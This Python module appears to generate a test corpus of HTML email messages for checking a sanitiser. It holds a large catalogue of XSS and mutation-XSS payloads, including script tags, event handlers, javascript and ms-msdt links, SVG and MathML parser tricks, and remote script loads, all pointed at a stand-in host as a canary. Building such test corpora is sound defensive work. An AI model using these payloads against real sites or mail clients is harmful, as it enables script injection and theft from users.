"""HTML that tries to run something: script, handlers, schemes, and markup that two parsers read in two ways.

Classes after OWASP's filter evasion notes, "mXSS attacks" (Heiderich et al., CCS 2013) and the advisories on
sanitisers since; every line is our own. What ran would ask pixel.example for something, so that it is heard.
"""

from __future__ import annotations

from tests.corpus.make.handwriting import Messages, html_letter, letter

RUN = "fetch(`http://pixel.example/ran`)"
BAD = f"<img src=http://pixel.example/parsed onerror={RUN}>"  # where it stands, it must not become an element

_CLASSES: dict[str, tuple[str, ...]] = {
    "script-elements": (
        f"<script>{RUN}</script>",
        "<SCRIPT SRC=http://pixel.example/a.js></SCRIPT>",
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script\n>",
        "<script type=module>import 'http://pixel.example/m.js'</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        "<script src=data:text/javascript,alert(1)></script>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
        "<script language=vbscript>MsgBox 1</script>",
    ),
    "script-without-an-end": (f"<script>{RUN}",),
    "handlers": (
        f'<img src=x onerror="{RUN}">',
        f'<img/src=x/onerror="{RUN}">',
        f'<img src=x oNeRrOr\n=\n"{RUN}">',
        f"<img src=x onerror=`{RUN}`>",
        f"<body onload={RUN}>",
        f'<div onclick="{RUN}" onmouseover="{RUN}" onpointerenter="{RUN}" style="width:100%">over here</div>',
        f'<details open ontoggle="{RUN}">x</details>',
        f'<input autofocus onfocus="{RUN}">',
        f'<p style="animation:x 1s" onanimationstart="{RUN}">moving</p>',
        f'<video><source onerror="{RUN}"></video>',
        f'<marquee onstart="{RUN}">x</marquee>',
        f'<a href="#" onclick="{RUN}" onauxclick="{RUN}">click</a>',
        f'<font size="+1" onresize="{RUN}">x</font>',
    ),
    "schemes": (
        f'<a href="javascript:{RUN}">1</a>',
        f'<a href="JaVaScRiPt:{RUN}">2</a>',
        f'<a href="java\tscript:{RUN}">3</a>',
        f'<a href="java&#10;script:{RUN}">4</a>',
        f'<a href="&#x6A;avascript&colon;{RUN}">5</a>',
        f'<a href="\x01\x02 javascript:{RUN}">6</a>',
        f'<img src="javascript:{RUN}">',
        '<a href="vbscript:MsgBox(1)">7</a>',
        '<a href="data:text/html,<script>alert(1)</script>">8</a>',
        '<a href="blob:http://pixel.example/1">9</a>',
        '<a href="view-source:file:///etc/passwd">10</a>',
        '<a href="file:///etc/passwd">11</a>',
        '<a href="qrc:/icon.svg">12</a>',
        '<a href="smb://pixel.example/share">13</a>',
        '<a href="ms-msdt:/id PCWDiagnostic">14</a>',
        '<a href="chrome://settings">15</a>',
        f'<a href="feed:javascript:{RUN}">16</a>',
        f'<a href="jar:javascript:{RUN}!/">17</a>',
        '<a href="intent://x#Intent;scheme=file;end">18</a>',
        '<a href="/relative">19</a>',
        '<a href="//pixel.example/other">20</a>',
    ),
    "elements-that-act": (
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<embed src="http://pixel.example/a.swf" allowscriptaccess=always>',
        '<applet code="A.class" codebase="http://pixel.example/"></applet>',
        '<base href="http://pixel.example/">',
        '<meta http-equiv=refresh content="0;url=http://pixel.example/refresh">',
        '<meta http-equiv=Set-Cookie content="a=b">',
        '<link rel=import href="http://pixel.example/i.html">',
        f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
        "<portal src=http://pixel.example/p></portal>",
        "<dialog open>shown</dialog>",
        "<isindex action=javascript:alert(1)>",
        "<keygen autofocus>",
        "<layer src=http://pixel.example/l></layer>",
        "<bgsound src=javascript:alert(1)>",
        "<object type=text/x-scriptlet data=http://pixel.example/s></object>",
    ),
    "forms": (
        '<form action="http://pixel.example/post" method=post><input name=password type=password></form>',
        "<button formaction=javascript:alert(1)>go</button>",
        "<input type=image src=http://pixel.example/submit formaction=http://pixel.example/f>",
        "<textarea name=t>typed</textarea><select><option>chosen</select>",
        '<form id=f></form><button form=f formaction="http://pixel.example/g">go</button>',
    ),
    "svg": (
        f'<svg onload="{RUN}"><circle r=9></svg>',
        f"<svg><script>{RUN}</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
        f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
        '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
        f'<svg><set attributeName=onmouseover to="{RUN}"/></svg>',
        "<svg><handler type=text/ecmascript>alert(1)</handler></svg>",
        f"<svg><title><![CDATA[</title>]]>{BAD}</svg>",
    ),
    "mathml": (
        '<math href="javascript:alert(1)">x</math>',
        '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
        f'<math><annotation-xml encoding="text/html">{BAD}</annotation-xml></math>',
        f"<math><mtext></mtext><mi>{BAD}</mi></math>",
    ),
    "mutation-in-foreign-content": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{BAD}">',
        f'<svg></p><style><a id="</style>{BAD}">',
        f'<math></p><style><!--</style><a title="--><!--">{BAD}-->',
        f"<svg><style><![CDATA[</style>{BAD}]]></style></svg>",
        f'<form><math><mtext></form><form><mglyph><style></math><a title="</style>{BAD}">',
        f"<svg><desc><style><a title='</style>{BAD}'></desc></svg>",
        f'<math><annotation-xml encoding="text/html"><style><!--</style><a title="-->{BAD}">',
        f"<svg><mpath><textarea><a title='</textarea>{BAD}'></svg>",
        f"<math><mi><malignmark><xmp><a title='</xmp>{BAD}'>",
    ),
    "mutation-of-raw-text": (
        f'<noscript><p title="</noscript>{BAD}"></noscript>',
        f'<textarea><p title="</textarea>{BAD}"></textarea>',
        f'<title><p title="</title>{BAD}"></title>',
        f'<xmp><p title="</xmp>{BAD}"></xmp>',
        f'<iframe><p title="</iframe>{BAD}"></iframe>',
        f'<noembed><p title="</noembed>{BAD}"></noembed>',
        f'<noframes><p title="</noframes>{BAD}"></noframes>',
        f'<style><p title="</style>{BAD}"></style>',
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f'<select><template><p title="</template></select>{BAD}"></template></select>',
        f'<template><p title="</template>{BAD}"></template>',
    ),
    "mutation-of-comments": (
        f"<!--><img title='-->{BAD}'>",
        f"<!---><img title='-->{BAD}'>",
        f"<!-- --!><img title='-->{BAD}'>",
        f"<!-- <!-- --><img title='-->{BAD}'>",
        f"<!-x {BAD} ->",
        f"<?xml version='1.0' {BAD} ?>",
        f"<![CDATA[ {BAD} ]]>",
        f"<!--[if gte IE 4]>{BAD}<![endif]-->",
        f"<!DOCTYPE x [<!ENTITY e '{BAD}'>]>&e;",
        f"</p {BAD}>",
        f"<%= '{BAD}' %>",
    ),
    "mutation-of-attributes": (
        f"<p title='{BAD}'>1</p>",
        f'<p title="&lt;/p&gt;{BAD}">2</p>',
        f"<p title=``{BAD}``>3</p>",
        f'<p title=`" onclick="{RUN}`>4</p>',
        f'<p title="\\" onclick="{RUN}">5</p>',
        f"<p title=x/onclick={RUN}>6</p>",
        f'<p "onclick={RUN}" title=x>7</p>',
        f"<p title = x onclick\f=\f{RUN}>8</p>",
        f'<p style="font-family:&quot;\\22 onclick={RUN}&quot;">9</p>',
        f"<p id=x class=y lang='\"><!--' title='-->{BAD}'>10</p>",
        f'<a href="http://letters.example/" onclick={RUN}">11</a>',
        f'<img src="cid:x" onerror={RUN}" alt=""><script>">',
        f"<p title='{'&quot;' * 20}{BAD}'>12</p>",
        '<p data-remote="http://pixel.example/p" x-mailguard-remote="http://pixel.example/q">13</p>',
        '<p title="x src=x-mailguard-remote:http://pixel.example/r"> data-remote="http://pixel.example/s</p>',
    ),
    "mutation-of-nesting": (
        f"<a><a><table><a>{'<div>' * 9}<table></a><script>{RUN}</script>",
        f"<table><tr><script>{RUN}</script><td>{'<b>' * 5}<p></b>cell</table>",
        f"<p><b><i><p></b></i><form><div></form><form>{'<p>' * 5}</form>",
        "</div></div></body></html></iframe></template>after the end",
        "<body><head><body><html><frameset><frame src=http://pixel.example/frame></frameset>",
        f"<svg><p><style>{BAD}</style></p></svg>",
    ),
    "entities-without-an-end": (
        f"&ltscript&gt{RUN}&lt/script&gt",
        f"&lt;img src=x onerror={RUN}&gt;",
        "&#60script&#62alert(1)&#x3c/script&#x3e",
        "&amp;lt;script&amp;gt; &#0; &#x110000; &#xD800; &NotAnEntity;",
    ),
    "names-of-the-page": (
        "<a id=body name=head>1</a><img name=getElementById><p id=documentElement>2</p>",
        "<p id=security-banner class=banner>3</p><a name=location href='http://letters.example/'>4</a>",
    ),
}


def messages(_: object) -> Messages:
    for name, snippets in _CLASSES.items():
        yield name, page(*snippets)
    yield (
        "nul-bytes-in-tags",
        letter(
            f"<p>shown words</p><scr\0ipt>{RUN}</scr\0ipt><img src=x o\0nerror={RUN}>".encode()
            + f"<a href='java\0script:{RUN}'>1</a>".encode(),
            "Content-Type: text/html; charset=utf-8",
        ),
    )
    yield (
        "letters-that-fold-to-ascii",
        html_letter(
            f"<p>shown words</p><ſcript>{RUN}</ſcript><ımg src=x ᴏnerror={RUN}><p ＯＮclick={RUN}>wide</p>"
        ),
    )
    yield (
        "script-after-200000-letters",
        html_letter(f"<p>shown words</p>{'x ' * 100_000}<script>{RUN}</script>{BAD}"),
    )


def page(*snippets: str) -> bytes:
    return html_letter("<p>shown words</p>\n" + "\n".join(snippets))
